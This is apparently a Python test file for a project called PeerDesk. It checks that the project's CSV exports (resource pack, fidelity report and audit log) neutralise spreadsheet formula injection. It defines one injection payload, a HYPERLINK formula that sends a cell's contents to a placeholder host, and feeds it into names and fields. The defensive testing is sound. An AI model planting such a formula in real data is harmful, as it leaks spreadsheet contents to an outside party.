"""Every CSV PeerDesk writes goes through one writer: text that a spreadsheet would run as a
formula (=HYPERLINK(...) sending the sheet's contents to a web address, say) is written as
text, whichever export it is in."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from peerdesk import exports
from peerdesk.domain import Kind
from peerdesk.services import Desk, Vault, fidelity, governance, resources
from peerdesk.services.desk import sign_in
from tests.conftest import PASSPHRASE

ATTACK = '=HYPERLINK("http://example.invalid/?d="&A1,"Open")'


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))) for c in row]


def _neutralised(text: str) -> None:
    cells = _cells(text)
    assert "'" + ATTACK in cells, "the text itself is kept"
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells), cells


def test_hyperlink_is_neutralised_in_every_csv_export(vault: Vault, tmp_path: Path) -> None:
    vault.create_account("Grace", "coordinator", PASSPHRASE)
    vault.create_account(ATTACK, "peer", PASSPHRASE)  # a name is text like any other
    grace = sign_in(vault, "Grace", PASSPHRASE)
    peer: Desk = sign_in(vault, ATTACK, PASSPHRASE)
    person = peer.add(Kind.PERSON, {"label": ATTACK})
    peer.add(Kind.DIARY, {"when": "2026-07-14T10:00", "contact_type": "first_ward_contact"},
             person_id=person.id)

    # The resource pack, as the coordinator exports it (and imports it back unchanged).
    resources.save(grace, {"name": ATTACK, "contact": "-1 not a sum", "area": "@home"})
    pack = resources.write_csv(tmp_path / "pack.csv", grace.records(Kind.RESOURCE))
    _neutralised(pack.read_text("utf-8"))
    _header, rows = exports.read_csv(pack.read_text("utf-8"))
    assert rows[0]["name"] == ATTACK and rows[0]["area"] == "@home"
    _neutralised(resources.to_csv(grace.records(Kind.RESOURCE)))

    # The fidelity report: a peer's name is a column heading.
    report = fidelity.for_desk(peer, peer=ATTACK)
    _neutralised(report.csv(suppress=False))
    written = exports.write_csv(tmp_path / "fidelity.csv", report.rows(suppress=True))
    _neutralised(written.read_text("utf-8"))

    # The audit export: the actor's name is a cell.
    out = tmp_path / "audit.csv"
    governance.export_audit(grace, out)
    _neutralised(out.read_text("utf-8-sig"))
